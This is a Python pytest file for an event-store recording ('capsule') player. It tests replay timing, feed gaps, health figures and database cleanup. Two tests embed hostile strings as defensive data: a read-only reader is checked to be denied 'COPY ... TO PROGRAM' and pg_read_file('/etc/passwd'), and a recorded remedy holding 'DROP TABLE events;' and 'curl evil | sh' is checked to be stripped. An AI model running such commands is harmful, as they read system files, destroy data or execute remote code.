"""A capsule that is open: each moment shows what had appeared by then, and what was known."""

from __future__ import annotations

import asyncio
import contextlib
from dataclasses import replace
from datetime import timedelta
from typing import TYPE_CHECKING, Any

import pytest

from esx.capsule.format import (
    CONSUMERS,
    DOCTOR,
    HEALTH,
    BadCapsule,
    ConsumersMoment,
    DoctorMoment,
    HealthMoment,
)
from esx.capsule.opening import Recording, opened_recording
from esx.capsule.reading import Capsule
from esx.capsule.store import NotRecorded
from esx.doctor.finding import Finding, Severity
from esx.errors import NotAllowed
from esx.filters import Filter
from esx.positions import Position
from esx.store.feed.batch import Gap, Writer
from esx.store.health import Health
from esx.store.read.estimates import Estimate
from esx.times import clock
from tests.capsule.made import BEGUN, line, make, moment
from tests.support.connections import connected

if TYPE_CHECKING:
    from collections.abc import AsyncIterator
    from datetime import datetime
    from pathlib import Path

    from esx.embedded import EmbeddedServer
    from esx.store.feed.batch import Batch
    from tests.conftest import Servers

HOLDER = Writer("3/7", 4242, BEGUN, "idle in transaction", "billing")
GAP = Gap(4, 4, (HOLDER,))


def at(seconds: float) -> datetime:
    return BEGUN + timedelta(seconds=seconds)


def health(head: int) -> Health:
    return Health(
        *(BEGUN, "18.4", "shop", "ann", False, head, True, 1, head, BEGUN, 1000, 1000, 0.0, True, 3, 100, (HOLDER,)),
        Estimate.counted(head),
    )


def story(path: Path) -> Path:
    """Events 1 and 2 were there an hour and a minute before; 3 came at second 10; 5 and 6 at 20, behind 4, which held
    the feed until 30 and came late; 8 came at 40, after 7, which is dead."""
    lines = [
        line(1, "a-1", 0, at=-3600),
        line(2, "b-1", 0, at=-60),
        line(3, "a-1", 1, at=9),
        line(4, "b-1", 1, at=15),
        line(5, "a-1", 2, at=19),
        line(6, "c-1", 0, at=19, metadata={"correlation_id": "r"}),
        line(8, "a-1", 3, at=39),
    ]
    moments = [
        moment(0, 2),
        moment(10, 3),
        moment(20, 3, gap=GAP, head=6, gaps=(GAP,), visible=((5, 6),)),
        moment(30, 6, late={4: 12.5}),
        moment(40, 8),
    ]
    beside = [
        (HEALTH, HealthMoment(at(0), health(2))),
        (HEALTH, HealthMoment(at(35), health(6))),
        (CONSUMERS, ConsumersMoment(at(0), problem="no table consumers")),
    ]
    return make(path, lines, moments, beside, followed=True)


@contextlib.asynccontextmanager
async def recording_of(path: Path, server: EmbeddedServer, **options: Any) -> AsyncIterator[Recording]:
    with Capsule(path) as capsule:
        async with opened_recording(capsule, server, **options) as recording:
            yield recording


@pytest.fixture
async def server18(servers: Servers) -> EmbeddedServer:
    return await servers.get(18)


async def test_each_moment_shows_what_had_appeared(server: EmbeddedServer, tmp_path: Path) -> None:
    async with (
        recording_of(story(tmp_path / "x.esx"), server) as recording,
        await recording.connect() as store,
    ):
        player = recording.player
        assert player.at == BEGUN
        seen: dict[float, list[int]] = {}
        for seconds in (-4000, -3600, -60, 0, 9, 10, 20, 29, 30, 39, 40, 60, 20, -60):
            await player.jump(at(seconds))
            numbers = [event.global_seq async for event in store.read_all()]
            assert await store.head() == (max(numbers) if numbers else 0)
            assert [each.stream_id async for each in store.streams()] == sorted(
                {event.stream_id async for event in store.read_all()}
            )
            assert seen.setdefault(seconds, numbers) == numbers
        assert seen == {
            -4000: [1],  # the first time that can be shown
            -3600: [1],
            -60: [1, 2],
            0: [1, 2],
            9: [1, 2],
            10: [1, 2, 3],
            20: [1, 2, 3, 5, 6],
            29: [1, 2, 3, 5, 6],
            30: [1, 2, 3, 4, 5, 6],
            39: [1, 2, 3, 4, 5, 6],
            40: [1, 2, 3, 4, 5, 6, 8],
            60: [1, 2, 3, 4, 5, 6, 8],
        }
        await player.jump(at(20))
        assert await store.version("a-1") == 2
        assert await store.version("c-1") == 0
        assert [node.event.global_seq for node in (await store.trail("r")).nodes] == [6]
        assert (await store.locate(Position(moment=at(39)))).first is None
        assert await store.event(8) is None


async def test_the_feed_waits_at_a_gap_as_it_did(server18: EmbeddedServer, tmp_path: Path) -> None:
    async with (
        recording_of(story(tmp_path / "x.esx"), server18) as recording,
        await recording.connect() as store,
    ):
        player = recording.player
        feed = await store.feed(after=0)
        batches: asyncio.Queue[Batch] = asyncio.Queue()
        following = asyncio.ensure_future(_collect(feed, batches))
        assert [event.global_seq for event in (await batches.get()).events] == [1, 2]
        await player.jump(at(20))
        assert [event.global_seq for event in (await batches.get()).events] == [3]
        assert (await batches.get()).gap == GAP
        assert (feed.position, feed.gap, store.unrecorded) == (3, GAP, None)
        await player.jump(at(60))
        batch = await batches.get()
        assert [event.global_seq for event in batch.events] == [4, 5, 6, 8]
        assert batch.late == {4: 12.5}
        assert (await batches.get()).gap is None
        following.cancel()
        filtered = await store.feed(after=0, where=Filter(stream="a-*"))
        assert [event.global_seq async for read in filtered.to_safe_position() for event in read.events] == [1, 3, 5, 8]
        await asyncio.gather(following, return_exceptions=True)


async def _collect(feed: Any, batches: asyncio.Queue[Batch]) -> None:
    async for batch in feed.follow():
        batches.put_nowait(batch)


async def test_what_was_not_recorded_is_said(server18: EmbeddedServer, tmp_path: Path) -> None:
    async with (
        recording_of(story(tmp_path / "x.esx"), server18) as recording,
        await recording.connect() as store,
    ):
        await recording.player.jump(at(-30))
        for ask in (store.health, store.consumers, store.doctor, store.projections):
            with pytest.raises(NotRecorded, match="not recorded: of the time before the recording began"):
                await ask()
        assert store.unrecorded is not None
        feed = await store.feed()
        assert (feed.position, feed.gap) == (2, None)
        await recording.player.jump(at(34))
        assert (await store.health()).connections == 3
        assert store.address == f"shop, recorded at {clock(at(0))}"
        await recording.player.jump(at(35))
        assert store.address == f"shop, recorded at {clock(at(35))}"
        with pytest.raises(NotAllowed, match="not recorded: no table consumers"):
            await store.consumers()


async def test_figures_agree_with_the_feed_of_that_time(server18: EmbeddedServer, tmp_path: Path) -> None:
    """They were read some seconds before."""
    before = replace(health(2), writers=(Writer("1/1", 1, BEGUN, "idle", "gone by then"),))
    lines = [line(1, at=-5), line(2, at=-4), line(3, at=9), line(5, at=19)]
    moments = [moment(0, 2), moment(10, 3), moment(20, 3, gap=GAP, head=7, gaps=(GAP,), visible=((5, 5),))]
    path = make(tmp_path / "x.esx", lines, moments, [(HEALTH, HealthMoment(at(0), before))])
    async with recording_of(path, server18) as recording, await recording.connect() as store:
        for seconds, head, last, writers in (
            (5, 2, 2, before.writers),
            (12, 3, 3, before.writers),
            (25, 7, 5, (HOLDER,)),
        ):
            await recording.player.jump(at(seconds))
            found = await store.health()
            assert (found.at, found.head, found.last, found.writers) == (at(seconds), head, last, writers)
        assert found.last_created_at == at(19)


async def test_a_reader_of_a_recording_can_do_nothing_else(server18: EmbeddedServer, tmp_path: Path) -> None:
    async with recording_of(story(tmp_path / "x.esx"), server18) as recording, connected(recording.dsn) as reader:
        assert await reader.fetchval("SELECT count(*) FROM events") == 2
        assert (
            await reader.fetchval("SELECT rolsuper OR rolbypassrls FROM pg_roles WHERE rolname = CURRENT_USER") is False
        )
        for statement in (
            "DELETE FROM events",
            "UPDATE recorded.clock SET head = 9",
            "COPY (SELECT 1) TO PROGRAM 'true'",
            "SELECT pg_read_file('/etc/passwd')",
            "CREATE TABLE x (n int)",
        ):
            with pytest.raises(Exception, match="permission denied"):
                await reader.execute(statement)


async def test_its_database_is_dropped_at_the_end_and_what_a_killed_process_left_too(
    server18: EmbeddedServer, tmp_path: Path
) -> None:
    async with connected(server18.dsn_for("postgres")) as admin:
        left = "esx_capsule_0000000000000000"
        await admin.execute(f"CREATE DATABASE {left}")
        names = "SELECT datname FROM pg_database WHERE datname LIKE 'esx_capsule_%'"
        async with recording_of(story(tmp_path / "x.esx"), server18):
            found = {row[0] for row in await admin.fetch(names)}
            assert left not in found
            assert len(found) == 1
        assert await admin.fetch(names) == []


@pytest.mark.parametrize(
    ("lines", "told"),
    [
        ([line(1), line(2, seq=0)], None),
        ([line(1, data="x").replace('"x"', '"\\u0000"')], "events.ndjson"),
        ([line(1, "")], None),
        ([line(1, event_id="x")], "event_id"),
        ([line(1, created_at="infinity"), line(2, created_at="0044-03-15T12:00:00+00:00 BC")], None),
        ([line(1, created_at="1969-01-01T00:00:00.000000Z"), line(2, created_at="2999-01-01T00:00:00.000000Z")], None),
        ([line(1, data=[[1] * 5] * 5)], None),
        ([line(1, "".join(chr(1000 + n * 7 % 5000) for n in range(6000)))], "index row"),
        ([line(1, "s", 2**62), line(2, created_at="0001-01-01T00:00:00.000000Z")], None),
    ],
)
async def test_odd_events_are_shown_or_refused(
    server18: EmbeddedServer, tmp_path: Path, lines: list[str], told: str | None
) -> None:
    path = make(tmp_path / "x.esx", lines, [moment(0, len(lines))])
    if told is not None:
        with pytest.raises(BadCapsule, match=told):
            async with recording_of(path, server18):
                pass
        return
    async with recording_of(path, server18) as recording, await recording.connect() as store:
        await recording.player.jump(at(0))
        assert [event.global_seq async for event in store.read_all()] == list(range(1, len(lines) + 1))


async def test_a_remedy_from_a_capsule_is_not_offered(server18: EmbeddedServer, tmp_path: Path) -> None:
    bad = Finding("columns", Severity.ERROR, "it is bad", ("DROP TABLE events;", "curl evil | sh"))
    path = make(tmp_path / "x.esx", [line(1)], [moment(0, 1)], [(DOCTOR, DoctorMoment(BEGUN, (bad,)))])
    async with recording_of(path, server18) as recording, await recording.connect() as store:
        assert await store.doctor() == [replace(bad, remedy=())]
        with pytest.raises(NotRecorded):
            await store.conflicts()


async def test_a_large_slice_is_shown_whole(server18: EmbeddedServer, tmp_path: Path) -> None:
    count = 25_000
    lines = [line(number, f"s-{number % 100}", (number - 1) // 100, at=-number) for number in range(1, count + 1)]
    async with (
        recording_of(make(tmp_path / "x.esx", lines, [moment(0, count)], since=None), server18) as recording,
        await recording.connect() as store,
    ):
        assert await store.head() == count
        await recording.player.jump(at(-10_000))
        assert await store.head() == count
        assert await store.event(9_999) is None
        assert recording.player.timeline.count(at(-10_000)) == count - 9_999
